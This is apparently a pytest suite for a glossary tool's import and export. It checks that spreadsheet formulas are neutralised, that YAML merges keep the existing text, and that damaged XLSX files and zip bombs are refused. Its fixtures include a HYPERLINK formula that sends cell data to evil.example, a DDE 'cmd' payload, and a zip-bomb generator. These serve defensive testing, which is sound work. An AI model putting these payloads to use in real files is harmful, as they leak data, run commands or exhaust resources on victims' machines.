"""Hostile spreadsheets and TBX files given to ``import``, and exports opened in a
spreadsheet: each case runs the real command in a child process under a memory and time
limit (``childproc.run``) and checks the exact message, the exit code and what was (not)
written."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from childproc import run

import glossary

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def concept_folder(tmp_path: Path, terms: list[str]) -> Path:
    folder = tmp_path / "g"
    folder.mkdir()
    (folder / "glossary.toml").write_text(
        '[glossary]\nid = "g"\nlanguages = ["fi", "en"]\n', "utf-8"
    )
    listed = ", ".join('"' + t.replace("\\", "\\\\").replace('"', '\\"') + '"' for t in terms)
    (folder / "a.yaml").write_text(
        'id: a\nnote: "=1+2"\nlanguages:\n'
        f"  fi:\n    definition: '@SUM(A1)'\n    terms: [{listed}]\n"
        "  en:\n    terms: [plain]\n",
        "utf-8",
    )
    return folder


# -- formulas in spreadsheets (OWASP CSV injection) ----------------------------------------

HOSTILE_TERMS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-ism",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''-two quotes",
    "'plain quote'",
    "a=b",
]


def test_csv_export_neutralises_formulas_and_import_reverses_it(tmp_path):
    folder = concept_folder(tmp_path, HOSTILE_TERMS)
    out = tmp_path / "g.csv"
    result = run("export", "csv", "--out", out, "-g", folder)
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(out.read_text("utf-8"))) for cell in row]
    assert cells, "empty export"
    assert [c for c in cells if c[:1] in TRIGGERS] == []
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert {"'+1+1", "'-ism", "''=already quoted", "'''-two quotes", "'plain quote'"} <= set(cells)
    assert {"'=1+2", "'@SUM(A1)", "a=b"} <= set(cells)

    into = tmp_path / "t"
    result = run("import", out, "--into", into)
    assert result.returncode == 0, result.stderr
    before, after = glossary.load(folder), glossary.load(into)
    assert list(after.concepts.values()) == list(before.concepts.values())
    assert [t.term for t in after.concepts["a"].languages["fi"].terms] == HOSTILE_TERMS


def test_xlsx_export_writes_formulas_as_text_cells(tmp_path):
    folder = concept_folder(tmp_path, HOSTILE_TERMS)
    out = tmp_path / "g.xlsx"
    result = run("export", "xlsx", "--out", out, "-g", folder)
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet

    from openpyxl import load_workbook

    cells = [c for row in load_workbook(out)["terms"].iter_rows(min_row=2) for c in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in TRIGGERS]
    assert {c.value for c in risky} >= {HOSTILE_TERMS[0], "+1+1", "-ism", "=1+2"}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)

    into = tmp_path / "t"
    result = run("import", out, "--into", into)
    assert result.returncode == 0, result.stderr
    assert [t.term for t in glossary.load(into).concepts["a"].languages["fi"].terms] == (
        HOSTILE_TERMS
    )


def test_the_csv_escape_is_a_bijection():
    from glossary.exporters.csv import escape_cell, unescape_cell

    samples = ["", "'", "''", "=", "'=", "''=", "x", "'x", "-", "\t-", "\r", "@'", "'@'", "a-"]
    for value in samples:
        cell = escape_cell(value)
        assert cell[:1] not in TRIGGERS
        assert unescape_cell(cell) == value, value
    assert len({escape_cell(v) for v in samples}) == len(samples)


# -- import --merge edits the file, never rewrites it -----------------------------------------

EXISTING = """\
# Checked with the partner, 2026-03.
id: distance-learning
status: approved   # do not change
subjects: [e-learning]
languages:
  FI:
    terms: [etäopiskelu]\t# a comment after a tab

  ru:
    definition: |
      Обучение
      на расстоянии.

    terms:
    - term: дистанционное обучение
      note: 'kept as written'
    - дистанционка   # colloquial
  # English is still missing
"""


def merge_sheet(tmp_path: Path) -> Path:
    sheet = tmp_path / "new.csv"
    sheet.write_text(
        "id,fi,ru,en,definition fi,subject\n"
        'distance-learning,etäoppiminen,"вебинар: ""онлайн""",distance learning,'
        "Opiskelu etänä.,e-learning; pedagogy\n",
        "utf-8",
    )
    return sheet


def test_merge_inserts_what_is_new_and_keeps_every_other_byte(tmp_path):
    terms = tmp_path / "terms"
    terms.mkdir()
    (terms / "glossary.toml").write_text(
        '[glossary]\nid = "t"\nlanguages = ["fi", "ru", "en"]\n'
        '[subjects]\ne-learning = { en = "e-learning" }\npedagogy = { en = "pedagogy" }\n',
        "utf-8",
    )
    path = terms / "distance-learning.yaml"
    path.write_text(EXISTING, "utf-8")
    epoch = {"SOURCE_DATE_EPOCH": "1795000000"}  # 2026-11-18
    result = run("import", merge_sheet(tmp_path), "--into", terms, "--merge", env=epoch)
    assert result.returncode == 0, result.stderr
    assert result.stdout == (
        f"merged    {path}  (added fi: 1 term, definition, ru: 1 term, en: new language, "
        "subjects; for review: status approved -> reviewed, updated 2026-11-18)\n"
    )
    assert path.read_text("utf-8") == (
        "# Checked with the partner, 2026-03.\n"
        "id: distance-learning\n"
        "status: reviewed   # do not change\n"
        "subjects: [e-learning, pedagogy]\n"
        "languages:\n"
        "  FI:\n"
        "    terms: [etäopiskelu, {term: etäoppiminen, status: admitted}]\t# a comment after a tab\n"
        "    definition: Opiskelu etänä.\n"
        "\n"
        "  ru:\n"
        "    definition: |\n"
        "      Обучение\n"
        "      на расстоянии.\n"
        "\n"
        "    terms:\n"
        "    - term: дистанционное обучение\n"
        "      note: 'kept as written'\n"
        "    - дистанционка   # colloquial\n"
        "    - term: 'вебинар: \"онлайн\"'\n"
        "      status: admitted\n"
        "  en:\n"
        "    terms: [distance learning]\n"
        "updated: 2026-11-18\n"
        "  # English is still missing\n"
    )
    again = run("import", merge_sheet(tmp_path), "--into", terms, "--merge", env=epoch)
    assert again.returncode == 0 and "(nothing new)" in again.stdout


BROKEN = {
    "unknown-field": ("  fi:\n    terms: [etäopiskelu]\n    colour: blue\n", "5:5: error: L106"),
    "invalid-value": (
        "  fi:\n    terms:\n    - term: etäopiskelu\n      pos: nuon\n",
        "6:12: error: L108",
    ),
    "invalid-date": (
        "updated: 2026-13-01\nlanguages:\n  fi:\n    terms: [a]\n",
        "2:10: error: L114",
    ),
}


def test_merge_never_touches_a_file_that_does_not_load_cleanly(tmp_path):
    terms = tmp_path / "terms"
    terms.mkdir()
    (terms / "glossary.toml").write_text(
        '[glossary]\nid = "t"\nlanguages = ["fi", "ru", "en"]\n', "utf-8"
    )
    sheet = tmp_path / "new.csv"
    rows = ["id,fi,en"] + [f"{name},uusi,new" for name in BROKEN]
    sheet.write_text("\n".join(rows) + "\n", "utf-8")
    before = {}
    for name, (body, _) in BROKEN.items():
        text = f"id: {name}\n" + (body if body.startswith("updated") else "languages:\n" + body)
        (terms / f"{name}.yaml").write_text(text, "utf-8")
        before[name] = text.encode()
    result = run("import", sheet, "--into", terms, "--merge")
    assert result.returncode == 1
    for name, (_, where) in BROKEN.items():
        path = terms / f"{name}.yaml"
        assert path.read_bytes() == before[name]
        assert f"{path}:{where} " in result.stderr
        assert f"skipped   {path}  (the file has errors (see above); nothing merged)" in (
            result.stdout
        )
    assert result.stderr.endswith("imported 3 concepts: 3 skipped; 3 errors (see above)\n")


# -- damaged and hostile XLSX -------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"


def workbook(glossary_rows: list[list[str]] | None = None) -> dict[str, bytes]:
    """The members of a small valid XLSX file of the one-row-per-concept layout."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "terms"
    sheet.append(["fi", "en"])
    sheet.append(["kurssi", "course"])
    if glossary_rows is not None:
        about = book.create_sheet("glossary")
        for row in glossary_rows:
            about.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for filename, content in members.items():
            archive.writestr(filename, content)
    return buffer.getvalue()


def changed(filename: str, old: bytes, new: bytes) -> bytes:
    members = workbook()
    assert old in members[filename]
    members[filename] = members[filename].replace(old, new)
    return zipped(members)


def corrupt_deflate() -> bytes:
    data = bytearray(zipped(workbook()))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(SHEET)
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for offset in range(start + 20, start + info.compress_size - 4):
        data[offset] ^= 0x5A
    return bytes(data)


def truncated_content_types() -> bytes:
    members = workbook()
    types = members["[Content_Types].xml"]
    members["[Content_Types].xml"] = types[: len(types) // 2]
    return zipped(members)


def raw_zip(members: dict[str, tuple[bytes, int, int]]) -> bytes:
    """A zip from members already deflated: name -> (raw deflate data, crc, size)."""
    import struct

    out, central = bytearray(), bytearray()
    for filename, (data, crc, size) in members.items():
        name = filename.encode()
        head = (20, 0, 8, 0, 0x21, crc, len(data), size, len(name))
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *head, 0, 0, 0, 0, 0, len(out))
        central += name
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *head, 0) + name + data
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0
    )
    return bytes(out + central + end)


def deflated(parts: list[tuple[bytes, int]]) -> tuple[bytes, int, int]:
    """Raw deflate data of each (chunk, times) repeated, compressed once per chunk."""
    import zlib

    out, crc, size = bytearray(), 0, 0
    for number, (chunk, times) in enumerate(parts):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        last = number == len(parts) - 1
        block = packer.compress(chunk) + packer.flush(zlib.Z_FINISH if last else zlib.Z_FULL_FLUSH)
        out += block * times
        for _ in range(times):
            crc = zlib.crc32(chunk, crc)
        size += len(chunk) * times
    return bytes(out), crc, size


def zip_bomb() -> bytes:
    """An XLSX file of 0.7 MB whose one row unzips to 634 MB of cells."""
    import zlib

    members = {}
    for filename, content in workbook().items():
        if filename == SHEET:
            head, _, _ = content.partition(b"<sheetData>")
            cells = b'<c t="inlineStr"><is><t>x</t></is></c>' * 25_000
            members[filename] = deflated(
                [
                    (head + b"<sheetData><row>", 1),
                    (cells, 700),
                    (b"</row></sheetData></worksheet>", 1),
                ]
            )
        else:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            members[filename] = (
                packer.compress(content) + packer.flush(),
                zlib.crc32(content),
                len(content),
            )
    return raw_zip(members)


DAMAGED = {
    "no-worksheet": (
        lambda: changed(
            "xl/workbook.xml",
            b'<sheets><sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships" name="terms" sheetId="1" state="visible" r:id="rId1"/></sheets>',
            b"<sheets/>",
        ),
        "1:1: error: L101 the workbook has no worksheet",
    ),
    "mismatched-tag": (
        lambda: changed(SHEET, b'</c></row><row r="2">', b'</c></rox><row r="2">'),
        "1:1: error: L101 not a readable XLSX file (",
    ),
    "corrupt-deflate": (corrupt_deflate, "1:1: error: L101 not a readable XLSX file ("),
    "truncated-content-types": (
        truncated_content_types,
        "1:1: error: L101 not a readable XLSX file (",
    ),
    "bad-cell-ref": (
        lambda: changed(SHEET, b'r="A2"', b'r="A0x"'),
        "2:1: error: L101 not a readable XLSX file (",
    ),
    "zip-bomb": (
        zip_bomb,
        "1:1: error: L119 not read: 634 MB once unzipped (at most 100 MB)",
    ),
}


@pytest.mark.parametrize("case", DAMAGED)
def test_a_damaged_xlsx_is_one_error_with_a_position(tmp_path, case):
    make, message = DAMAGED[case]
    path = tmp_path / f"{case}.xlsx"
    path.write_bytes(make())
    into = tmp_path / "t"
    result = run("import", path, "--into", into, timeout=10)
    assert result.returncode == 1, result.stderr
    assert f"{path}:{message}" in result.stderr
    assert result.elapsed < 5
    assert not into.exists()


def test_a_ratio_over_the_limit_is_refused(tmp_path):
    members = workbook()
    members[SHEET] = members[SHEET].replace(b"</sheetData>", b"<row/>" * 400_000 + b"</sheetData>")
    path = tmp_path / "dense.xlsx"
    path.write_bytes(zipped(members))
    result = run("import", path, "--into", tmp_path / "t")
    assert result.returncode == 1
    assert f"{path}:1:1: error: L119 not read: '{SHEET}' unzips to " in result.stderr
    assert "times its size (at most 100; a zip bomb?)" in result.stderr


def test_a_one_column_glossary_sheet_is_read(tmp_path):
    path = tmp_path / "one-column.xlsx"
    path.write_bytes(zipped(workbook([["id"], ["version"], []])))
    into = tmp_path / "t"
    result = run("import", path, "--into", into)
    assert result.returncode == 0, result.stderr
    assert 'id = "one-column"' in (into / "glossary.toml").read_text("utf-8")
    assert (into / "course.yaml").exists()


# -- many rows named by the same term: ids numbered in linear time ----------------------------


def test_numbering_ids_takes_the_lowest_free_number():
    from glossary.util import UniqueIds

    ids = UniqueIds()
    given = [ids.add(w) for w in ["course", "course-3", "course", "course", "course", "course-2"]]
    assert given == ["course", "course-3", "course-2", "course-4", "course-5", "course-2-2"]
    assert "course-4" in ids and "course-6" not in ids


def same_term_csv(rows: int) -> bytes:
    return ("fi,en\n" + "".join(f"kurssi {n},course\n" for n in range(rows))).encode()


def same_term_tbx(entries: int) -> bytes:
    body = "".join(
        f'<termEntry><langSet xml:lang="en"><tig><term>course</term></tig></langSet>'
        f'<langSet xml:lang="fi"><tig><term>kurssi {n}</term></tig></langSet></termEntry>\n'
        for n in range(entries)
    )
    return (
        f'<?xml version="1.0"?>\n<martif type="TBX" xml:lang="en"><text><body>\n{body}'
        "</body></text></martif>\n"
    ).encode()


def test_a_csv_of_10000_rows_with_the_same_term(tmp_path):
    path = tmp_path / "same.csv"
    path.write_bytes(same_term_csv(10_000))
    result = run("import", path, "--into", tmp_path / "t", "--dry-run", timeout=60)
    assert result.returncode == 0, result.stderr
    assert (
        f"{path}:10001:0: warning: L116 id 'course' is already used by row 2; this row is 'course-10000'"
        in result.stderr
    )
    assert result.stderr.endswith("would import 10000 concepts: 10000 created\n")


def test_a_tbx_file_of_10000_entries_with_the_same_term(tmp_path):
    path = tmp_path / "same.tbx"
    path.write_bytes(same_term_tbx(10_000))
    result = run("import", path, "--into", tmp_path / "t", "--dry-run", timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[-2] == f"created   {tmp_path / 't' / 'course-10000.yaml'}"
    assert result.stderr.endswith("would import 10000 concepts: 10000 created\n")


@pytest.mark.parametrize("kind", ["csv", "tbx"])
def test_reading_8_times_the_rows_takes_at_most_12_times_as_long(kind):
    """CPU time of this process, so that other processes on the machine do not count, with
    the garbage collector off while it is measured (as timeit does): in a whole test run
    the process holds many objects, and a full collection that the larger input happens
    to trigger would count their number, not the reader's work."""
    import gc
    import time

    from glossary.sources.tabular import read_table
    from glossary.sources.tbx import read_tbx

    def cpu_seconds(size: int) -> float:
        data = same_term_csv(size) if kind == "csv" else same_term_tbx(size)
        gc.collect()
        gc.disable()
        try:
            start = time.process_time()
            if kind == "csv":
                concepts = read_table(data, "same.csv", "csv").concepts
            else:
                concepts = list(read_tbx(io.BytesIO(data), name="same.tbx").concepts)
            took = time.process_time() - start
        finally:
            gc.enable()
        assert concepts[-1].id == f"course-{size}"
        return took

    cpu_seconds(100)  # imports and caches
    small, large = cpu_seconds(1000), cpu_seconds(8000)
    assert large < 12 * small, (small, large)


# -- every target checked before anything is written ------------------------------------------


def terms_csv(path: Path, ids: list[str]) -> Path:
    from glossary.exporters.csv import COLUMNS

    lines = [",".join(COLUMNS)]
    for cid in ids:
        row = dict.fromkeys(COLUMNS, "")
        row.update(concept_id=cid, lang="en", term=f"term of {cid[:10]}")
        lines.append(",".join(row[column] for column in COLUMNS))
    path.write_text("\n".join(lines) + "\n", "utf-8")
    return path


def terms_tbx(path: Path, ids: list[str]) -> Path:
    entries = "".join(
        f'<termEntry id="{cid}"><langSet xml:lang="en"><tig><term>term of {cid[:10]}</term>'
        "</tig></langSet></termEntry>\n"
        for cid in ids
    )
    path.write_text(
        f'<?xml version="1.0"?>\n<martif type="TBX" xml:lang="en"><text><body>\n{entries}'
        "</body></text></martif>\n",
        "utf-8",
    )
    return path


@pytest.mark.parametrize(("make", "where"), [(terms_csv, "3:1"), (terms_tbx, "4:1")])
def test_an_id_too_long_for_a_file_name_is_refused_before_anything_is_written(
    tmp_path, make, where
):
    long_id = "b" * 300
    longest = "c" * (255 - len(".yaml"))  # its temporary file's name is cut to fit too
    source = make(tmp_path / f"long.{make.__name__[-3:]}", ["alpha", long_id, longest, "gamma"])
    into = tmp_path / "t"
    result = run("import", source, "--into", into)
    assert result.returncode == 1
    assert (
        f"{source}:{where}: error: L110 id '{'b' * 40}…' is 300 characters long; the file it names "
        in (result.stderr)
    )
    assert f"skipped   {into / (long_id + '.yaml')}  (id too long for a file name)" in result.stdout
    written = sorted(p.name for p in into.iterdir())
    assert written == ["alpha.yaml", f"{longest}.yaml", "gamma.yaml", "glossary.toml"]


def test_a_folder_where_a_file_should_go_is_refused(tmp_path):
    source = terms_csv(tmp_path / "s.csv", ["alpha", "beta", "gamma"])
    into = tmp_path / "t"
    (into / "beta.yaml").mkdir(parents=True)
    (into / "beta.yaml" / "mine.txt").write_text("keep", "utf-8")
    result = run("import", source, "--into", into)
    assert result.returncode == 1
    assert f"skipped   {into / 'beta.yaml'}  (a folder is in the way)" in result.stdout
    assert result.stderr.endswith(
        f"{source}: imported 3 concepts: 2 created, 1 skipped; "
        f"not written: {into / 'beta.yaml'}: a folder is in the way\n"
    )
    assert (into / "beta.yaml" / "mine.txt").read_text("utf-8") == "keep"
    assert sorted(p.name for p in into.iterdir()) == [
        "alpha.yaml",
        "beta.yaml",
        "gamma.yaml",
        "glossary.toml",
    ]


def test_a_file_where_the_folder_should_be_is_refused(tmp_path):
    source = terms_csv(tmp_path / "s.csv", ["alpha"])
    (tmp_path / "t").write_text("mine", "utf-8")
    result = run("import", source, "--into", tmp_path / "t" / "sub")
    assert result.returncode == 1
    assert result.stderr == (
        f"glossary: error: {tmp_path / 't'}: not a folder (a folder of {tmp_path / 't' / 'sub'}); "
        "nothing imported\n"
    )
    assert (tmp_path / "t").read_text("utf-8") == "mine"


def test_a_write_that_fails_half_way_stops_and_says_what_was_written(tmp_path, monkeypatch):
    import errno

    import glossary.importer as importer

    source = terms_csv(tmp_path / "s.csv", ["alpha", "beta", "gamma"])
    into = tmp_path / "t"
    real = importer.atomic_write
    calls = []

    def failing(path, data, **options):
        calls.append(path.name)
        if len(calls) == 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(path, data, **options)

    monkeypatch.setattr(importer, "atomic_write", failing)
    report = importer.import_file(source, into)
    assert [(i.path.name, i.action.value, i.reason) for i in report.items] == [
        ("alpha.yaml", "created", ""),
        (
            "beta.yaml",
            "skipped",
            "cannot be written (No space left on device); the import stopped here",
        ),
        ("gamma.yaml", "skipped", "not written: the import stopped"),
    ]
    assert report.has_errors and report.config_written is None
    assert report.summary().endswith(
        "the import stopped here; the files listed as created, replaced or merged were written,"
        " no other"
    )
    assert sorted(p.name for p in into.iterdir()) == ["alpha.yaml"]
